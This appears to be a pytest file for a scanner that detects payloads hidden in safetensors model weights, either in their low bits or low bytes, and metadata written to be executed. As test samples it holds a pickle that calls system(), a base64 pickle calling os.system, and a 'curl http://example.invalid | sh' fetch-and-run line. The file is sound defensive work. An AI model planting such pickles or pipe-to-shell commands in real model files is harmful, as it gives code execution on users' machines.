"""Tensors hold numbers; a program, a pickle, a script or low bits that are one is found."""

from __future__ import annotations

import random
import struct

import pytest

from assay.core.finding import Verdict
from scanning.container_making import ELF, judge, safetensors_of

EVIL = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."
ZIP = b"PK\x03\x04\x14\0\0\0\0\0" + bytes(16) + b"\x05\0\0\0a.txt" + b"x" * 40
COUNT = 16_384


def tensor_file(body: bytes, dtype: str, count: int, **metadata: str) -> bytes:
    header: dict[str, object] = {
        "w": {"dtype": dtype, "shape": [count], "data_offsets": [0, len(body)]}
    }
    if metadata:
        header["__metadata__"] = metadata
    return safetensors_of(header, body)


def weights(seed: int = 1) -> bytearray:
    """Numbers like those of a trained layer, as F32."""
    source = random.Random(seed)
    return bytearray(struct.pack(f"<{COUNT}f", *(source.gauss(0, 0.02) for _ in range(COUNT))))


def hide(payload: bytes, bits: int, *, first_is_high: bool) -> bytes:
    """A payload in the lowest bits of each number."""
    raw = weights()
    each = 8 // bits
    mask = (1 << bits) - 1
    for index, byte in enumerate(payload):
        for place in range(each):
            shift = bits * (each - 1 - place if first_is_high else place)
            at = (index * each + place) * 4
            raw[at] = (raw[at] & ~mask & 0xFF) | ((byte >> shift) & mask)
    return bytes(raw)


def hide_bytes(payload: bytes, count: int) -> bytes:
    """A payload in the lowest bytes of each number."""
    raw = weights()
    for index, byte in enumerate(payload):
        raw[(index // count) * 4 + index % count] = byte
    return bytes(raw)


def test_trained_weights_are_clean() -> None:
    for seed in range(20):
        judged = judge(tensor_file(bytes(weights(seed)), "F32", COUNT), "m.safetensors")
        assert judged.verdict is Verdict.CLEAN, judged
        assert not judged.findings


@pytest.mark.parametrize("dtype", ["F16", "BF16", "F64", "I8", "U8"])
def test_random_bytes_of_any_type_are_no_alarm(dtype: str) -> None:
    source = random.Random(7)
    width = {"F16": 2, "BF16": 2, "F64": 8}.get(dtype, 1)
    judged = judge(tensor_file(source.randbytes(COUNT * width), dtype, COUNT), "m.safetensors")
    assert judged.verdict is Verdict.CLEAN, judged


@pytest.mark.parametrize("first_is_high", [True, False])
@pytest.mark.parametrize("bits", [1, 2, 4])
@pytest.mark.parametrize("payload", [ELF + bytes(200), EVIL, ZIP], ids=["elf", "pickle", "zip"])
def test_a_payload_in_the_low_bits_is_found(
    payload: bytes, bits: int, *, first_is_high: bool
) -> None:
    body = hide(payload, bits, first_is_high=first_is_high)
    judged = judge(tensor_file(body, "F32", COUNT), "m.safetensors")
    assert "tensor.low-bits" in judged.rules


@pytest.mark.parametrize("count", [1, 2, 3])
@pytest.mark.parametrize("prefix", [b"", struct.pack("<I", 9), struct.pack("<Q", 9)])
def test_a_payload_in_the_low_bytes_is_found_also_behind_its_length(
    count: int, prefix: bytes
) -> None:
    judged = judge(
        tensor_file(hide_bytes(prefix + ELF + bytes(200), count), "F32", COUNT), "m.safetensors"
    )
    assert "tensor.low-bits" in judged.rules


def test_a_pickle_that_acts_in_a_tensor_is_found_and_one_of_data_is_not() -> None:
    evil = judge(tensor_file(EVIL.ljust(64, b"\0"), "U8", 64), "m.safetensors")
    assert "tensor.pickle" in evil.rules
    data = b"\x80\x04]\x94(K\x01K\x02e.".ljust(64, b"\0")
    assert judge(tensor_file(data, "U8", 64), "m.safetensors").verdict is Verdict.CLEAN


def test_a_script_in_a_tensor_is_found() -> None:
    body = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n".ljust(64, b"\0")
    assert "tensor.script" in judge(tensor_file(body, "U8", 64), "m.safetensors").rules


def test_text_in_a_tensor_of_numbers_needs_a_person() -> None:
    body = (b"This is a letter and not a number. " * 40)[:1024]
    judged = judge(tensor_file(body, "F32", 256), "m.safetensors")
    assert judged.verdict is Verdict.SUSPICIOUS
    assert judge(tensor_file(body, "U8", 1024), "m.safetensors").verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    ("dtype", "value"),
    [
        ("F32", struct.pack("<f", float("nan"))),
        ("F32", struct.pack("<f", float("-inf"))),
        ("F64", struct.pack("<d", float("inf"))),
        ("F16", struct.pack("<e", float("nan"))),
        ("BF16", b"\x80\x7f"),
    ],
)
def test_values_that_are_no_numbers_are_told_and_stay_clean(dtype: str, value: bytes) -> None:
    width = len(value)
    finite = {"F32": struct.pack("<f", 3e38), "F64": struct.pack("<d", 1e308)}
    body = finite.get(dtype, bytes(width)) * 99 + value
    judged = judge(tensor_file(body, dtype, 100), "m.safetensors")
    assert judged.rules == {"tensor.not-finite"}
    assert judged.verdict is Verdict.CLEAN
    good = judge(tensor_file(finite.get(dtype, bytes(width)) * 100, dtype, 100), "m.safetensors")
    assert not good.findings


@pytest.mark.parametrize(
    "text",
    [
        "sh -c 'curl http://example.invalid | sh'",
        "gASVJQAAAAAAAACMAm9zjAZzeXN0ZW2TjBN0b3VjaCBjb3JwdXMtbWFya2VyhVIu",
    ],
)
def test_metadata_that_is_written_to_be_run_is_found(text: str) -> None:
    judged = judge(tensor_file(bytes(8), "U8", 8, note=text), "m.safetensors")
    assert "safetensors.acting-metadata" in judged.rules


@pytest.mark.parametrize("text", ["pt", '{"a": [1, 2]}', "trained with os and system calls off"])
def test_ordinary_metadata_is_no_finding(text: str) -> None:
    assert not judge(tensor_file(bytes(8), "U8", 8, note=text), "m.safetensors").findings
